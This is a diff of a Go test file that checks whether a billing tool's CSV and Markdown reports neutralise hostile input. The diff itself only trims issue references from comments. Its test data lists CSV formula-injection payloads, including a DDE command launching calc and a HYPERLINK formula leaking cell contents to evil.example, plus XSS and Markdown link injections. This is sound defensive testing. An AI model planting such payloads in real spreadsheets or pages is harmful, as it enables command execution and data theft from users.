@@ -25,8 +25,8 @@ import (
 )
 
 // hostileNodes are bill node ids an attacker (or a careless provider
-// console) can put in a bill: spreadsheet formulas (issue 27, row 9),
-// HTML, links and table breakers for Markdown (row 10).
+// console) can put in a bill: spreadsheet formulas, HTML, links and
+// table breakers for Markdown.
 var hostileNodes = []string{
 	"=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", `=HYPERLINK("https://evil.example/?"&A1,"x")`,
 	`<img src=x onerror=alert(1)>`, "[click](javascript:alert(1))", "<https://evil.example/a>", "![i](https://evil.example/i.png)",
@@ -79,7 +79,7 @@ func TestSheetCell(t *testing.T) {
 	}
 }
 
-// TestCSVIsFormulaSafe (issue 27, row 9): every cell of report.csv — the
+// TestCSVIsFormulaSafe: every cell of report.csv — the
 // node table, the bill's lines, the rows not judged, the retroactive
 // records — is read back; none a spreadsheet would run as a formula,
 // every hostile node id is there as text, and gpusla's negative numbers
@@ -158,7 +158,7 @@ var outsideMarkdown = append(hostileNodes, "www.evil.example", "https://evil.exa
 	"<a href='https://evil.example'>x</a>", "[x]: https://evil.example", "x\n\n<div onclick=alert(1)>y</div>", "1. list", "# heading", "> quote",
 	"---", "    indented code", "a\\<b>", "_x_", "[x](<javascript:alert(1)>)")
 
-// TestMarkdownEscapesOutsideText (issue 27, row 10): report.md, rendered
+// TestMarkdownEscapesOutsideText: report.md, rendered
 // with hostile text in every field from outside, parsed by a CommonMark
 // parser with GitHub's extensions (goldmark: tables, autolinks of bare
 // addresses, strikethrough) holds no raw HTML, no link and no image, and
